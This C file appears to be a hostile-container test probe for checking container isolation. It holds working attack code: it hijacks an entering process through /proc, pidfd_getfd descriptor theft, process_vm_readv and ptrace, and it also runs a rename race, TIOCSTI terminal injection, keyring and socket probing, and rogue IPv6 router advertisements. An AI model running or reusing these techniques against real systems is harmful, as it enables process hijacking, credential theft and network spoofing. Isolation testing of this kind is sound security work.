/* What a hostile container runs. One static program, one word for each attack.

   hunt            look for whoever enters this container and try to get hold of it, until SIGTERM
   swap A B ...    exchange each pair of names, for ever
   tty             push characters into the terminal
   keyring         what the session keyring is called
   reach PATH ...  what of these can be listed, read, or talked to when it is a socket
   advertise IF    be an IPv6 router for everybody on the link (RFC 4861), as one that takes no part in it */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t stopped;
static void stop(int number) { stopped = number; }

/* -- hunt */

static const char *const LINKS[] = {"exe", "cwd", "root", "ns/mnt", "fd/0", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8", NULL};
static const char *const TEXTS[] = {"mem", "environ", "auxv", "stack", "maps", "io", NULL};
static const char *const FOLDERS[] = {"map_files", NULL};

static int is_entering(const char *pid) {
    char path[300], comm[32] = "";
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t length = read(fd, comm, sizeof comm - 1);
    close(fd);
    return length > 0 && !strncmp(comm, "pystack-keeper", 14);
}

static long caught;
static char last[32] = "nothing";
static void judge(const char *pid, const char *what, long result) {
    /* Only what worked while it was not yet the container's own program counts. */
    if (result >= 0 && is_entering(pid)) {
        caught++;
        strncpy(last, what, sizeof last - 1);
    }
}

static long entries(const char *path) {
    long count = -1;
    DIR *folder = opendir(path);
    for (struct dirent *entry; folder && (entry = readdir(folder));)
        count += entry->d_name[0] != '.';
    if (folder) closedir(folder);
    return count;
}

static void attack(const char *pid) {
    char path[300], byte;
    int number = atoi(pid);
    for (const char *const *place = LINKS; *place; place++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, *place);
        int fd = open(path, O_PATH);
        judge(pid, *place, fd);
        if (fd >= 0) close(fd);
    }
    for (const char *const *place = TEXTS; *place; place++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, *place);
        int fd = open(path, O_RDWR);
        if (fd < 0) fd = open(path, O_RDONLY);
        judge(pid, *place, (fd < 0 ? 0 : read(fd, &byte, 1)) - 1);
        if (fd >= 0) close(fd);
    }
    for (const char *const *place = FOLDERS; *place; place++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, *place);
        judge(pid, *place, entries(path));
    }
    int pidfd = syscall(434 /* pidfd_open */, number, 0);
    for (int fd = 0; pidfd >= 0 && fd < 12; fd++) {
        int stolen = syscall(438 /* pidfd_getfd */, pidfd, fd, 0);
        judge(pid, "a descriptor", stolen);
        if (stolen >= 0) close(stolen);
    }
    if (pidfd >= 0) close(pidfd);
    struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
    long copied = process_vm_readv(number, &here, 1, &there, 1, 0);
    judge(pid, "its memory", copied < 0 && errno == EFAULT ? 0 : copied);
    long seized = ptrace(PTRACE_SEIZE, number, 0, 0);
    judge(pid, "ptrace", seized);
    if (seized >= 0) {
        int status;
        ptrace(PTRACE_INTERRUPT, number, 0, 0);
        waitpid(number, &status, __WALL);
        ptrace(PTRACE_DETACH, number, 0, 0);
    }
}

static int hunt(void) {
    long seen = 0;
    signal(SIGTERM, stop);
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("ready");
    while (!stopped) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));)
            if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9' && is_entering(entry->d_name)) {
                seen++;
                attack(entry->d_name);
            }
        closedir(proc);
    }
    printf("seen %ld caught %ld last %s\n", seen, caught, last);
    return 0;
}

/* -- swap */

static void swap(char **names) {
    puts("ready");
    fflush(stdout);
    for (;;)
        for (char **pair = names; pair[0]; pair += 2)
            syscall(SYS_renameat2, AT_FDCWD, pair[0], AT_FDCWD, pair[1], 2 /* RENAME_EXCHANGE */);
}

/* -- tty */

static int tty(void) {
    int fd = open("/dev/tty", O_RDWR);
    char paste[2] = {3, 0};
    printf("TIOCSTI %s\n", ioctl(fd, TIOCSTI, "x") ? strerror(errno) : "done");
    printf("TIOCLINUX %s\n", ioctl(fd, TIOCLINUX, paste) ? strerror(errno) : "done");
    return 0;
}

/* -- keyring */

static int keyring(void) {
    long serial = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0);
    printf("%ld\n", serial < 0 ? -(long)errno : serial);
    return 0;
}

/* -- reach */

static int talk(const char *path, int type) {
    static const char hello[] = "{\"op\":\"hello\",\"tag\":1,\"verb\":\"ls\"}\n";
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    struct timeval patience = {2, 0};
    char answer[64];
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    int fd = socket(AF_UNIX, type, 0);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    int answered = 0;
    if (!connect(fd, (struct sockaddr *)&address, sizeof address)) {
        printf("connected %s\n", path);
        answered = send(fd, hello, sizeof hello - 1, MSG_NOSIGNAL) > 0 && recv(fd, answer, sizeof answer, 0) > 0;
    }
    if (answered) printf("answered %s\n", path);
    close(fd);
    return answered;
}

static int reach(char **paths) {
    for (; *paths; paths++) {
        DIR *folder = opendir(*paths);
        if (folder) printf("listed %s\n", *paths), closedir(folder);
        int fd = open(*paths, O_RDONLY | O_NONBLOCK);
        if (fd >= 0) printf("read %s\n", *paths), close(fd);
        talk(*paths, SOCK_STREAM);
        talk(*paths, SOCK_SEQPACKET);
    }
    return 0;
}

/* -- advertise */

static int advertise(const char *interface) {
    unsigned char frame[14 + 40 + 16 + 32] = {
        0x33, 0x33, 0, 0, 0, 1, 2, 0, 0, 0, 0, 9, 0x86, 0xDD,
        0x60, 0, 0, 0, 0, 48, 58, 255, 0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xfe, 0, 0, 0, 9,
        0xff, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1,
        134, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0,
        3, 4, 64, 0xC0, 0, 0, 7, 8, 0, 0, 7, 8, 0, 0, 0, 0, 0x20, 1, 0xd, 0xb8, 0xba, 0xd0,
    };
    unsigned long sum = 48 + 58;
    for (int i = 22; i < (int)sizeof frame; i += 2) sum += frame[i] << 8 | frame[i + 1];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    frame[56] = ~sum >> 8, frame[57] = ~sum;
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = 0xDD86, .sll_halen = 6};
    to.sll_ifindex = if_nametoindex(interface);
    memcpy(to.sll_addr, frame, 6);
    int fd = socket(AF_PACKET, SOCK_RAW, 0xDD86);
    for (int n = 0; n < 5; n++) {
        if (sendto(fd, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) != sizeof frame) {
            puts(strerror(errno));
            return 1;
        }
        usleep(20000);
    }
    return 0;
}

int main(int count, char **words) {
    const char *word = count > 1 ? words[1] : "";
    if (!strcmp(word, "hunt")) return hunt();
    if (!strcmp(word, "swap")) swap(words + 2);
    if (!strcmp(word, "tty")) return tty();
    if (!strcmp(word, "keyring")) return keyring();
    if (!strcmp(word, "reach")) return reach(words + 2);
    if (!strcmp(word, "advertise")) return advertise(words[2]);
    return 2;
}
